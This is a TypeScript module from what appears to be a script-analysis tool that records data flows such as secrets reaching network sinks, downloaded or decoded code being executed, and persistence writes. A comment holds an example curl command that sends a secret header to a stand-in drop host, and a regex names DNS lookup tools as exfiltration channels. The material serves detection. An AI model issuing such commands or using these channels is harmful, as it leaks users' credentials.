/**
 * What the data-flow analysis reports: a flow is a source reaching a sink (a secret sent off
 * the machine, downloaded or decoded data executed, a write to a persistence location, a
 * command name assembled from pieces), at an offset of the script, with what reached it.
 * FlowSink collects them once per kind and place.
 */

import { isSecret, type Label } from "./vocabulary.ts";

export type FlowKind =
  | "secret-network"
  | "fetched-exec"
  | "decoded-exec"
  | "file-exec"
  | "persistence"
  | "assembled-name";

export interface Flow {
  kind: FlowKind;
  /** Offset in the script's text. */
  at: number;
  /** What reached the sink, for the reviewer: `os.environ → stats.lintkit.dev`. */
  detail: string;
  /** The secrets that reached a network sink (`env:*`, `env:GITHUB_TOKEN`, `file:~/.ssh/id_*`). */
  secrets: string[];
  /** The host a network sink sends to, when the script names it. */
  host?: string | undefined;
  /** The secret is part of a name looked up (DNS): it leaves whatever the host. */
  inName?: boolean;
  /**
   * The address was built from decoded data (`base64.b64decode(…)`, a string read backwards):
   * a destination the script hides from whoever reads it.
   */
  hidden?: boolean;
}

export class FlowSink {
  readonly flows: Flow[] = [];
  readonly #seen = new Set<string>();

  /**
   * One flow of a kind at a place; a send at one place to two hosts is two flows, each judged
   * by its own host (`curl -H "…$KEY" https://api.own.example/ https://drop.example/` sends
   * the header to both: the first must not stand for the second).
   */
  add(flow: Flow): void {
    const key = `${flow.kind}@${flow.at}@${flow.host ?? ""}`;
    if (this.#seen.has(key)) return;
    this.#seen.add(key);
    this.flows.push(flow);
  }

  /** A network sink: a flow when a secret is among what it sends. */
  send(
    at: number,
    labels: ReadonlySet<Label>,
    host: string | undefined,
    via: string,
    hidden = false,
  ): void {
    // The variable a parameter names, at a sink inside its function: any, as the caller
    // decides it.
    const secrets = [
      ...new Set([...labels].map((l) => l.startsWith("envparam:") ? "env:*" : l)),
    ].filter(isSecret);
    if (secrets.length === 0) return;
    const what = secrets.map(describeSecret).join(", ");
    const inName = DNS.test(via);
    const where = host ?? (inName ? "a DNS name" : "a computed address");
    this.add({
      kind: "secret-network",
      at,
      detail: `${what} → ${where} (${via})`,
      secrets,
      host,
      inName,
      ...(hidden ? { hidden } : {}),
    });
  }

  /** An execution sink: a flow when downloaded or decoded data reaches it. */
  exec(at: number, labels: ReadonlySet<Label>, via: string): void {
    if (labels.has("fetched")) {
      this.add({ kind: "fetched-exec", at, detail: `downloaded data → ${via}`, secrets: [] });
    }
    if (labels.has("decoded")) {
      this.add({ kind: "decoded-exec", at, detail: `decoded data → ${via}`, secrets: [] });
    }
    if (labels.has("filetext")) {
      this.add({
        kind: "file-exec",
        at,
        detail: `text from a file or the script's own source → ${via}`,
        secrets: [],
      });
    }
  }

  /** A write: a flow when its target is a persistence location. */
  persist(at: number, labels: ReadonlySet<Label>, via: string): void {
    const path = [...labels].find((l) => l.startsWith("persist:"));
    if (path === undefined) return;
    this.add({
      kind: "persistence",
      at,
      detail: `${via} → ${path.slice("persist:".length)}`,
      secrets: [],
    });
  }
}

/** Lookups whose name is the message: a secret in it leaves through any resolver. */
const DNS =
  /(?:gethostbyname\w*|getaddrinfo|gethostbyaddr|resolver\.\w+|dns\.\w+|^dig$|^nslookup$|^host$|^drill$|^resolve-dnsname$)/;

function describeSecret(label: string): string {
  if (label === "env:*") return "the environment";
  if (label.startsWith("env:")) return `$${label.slice(4)}`;
  if (label.startsWith("store:")) return `\`${label.slice(label.indexOf("|") + 1)}\``;
  return label.slice(5);
}
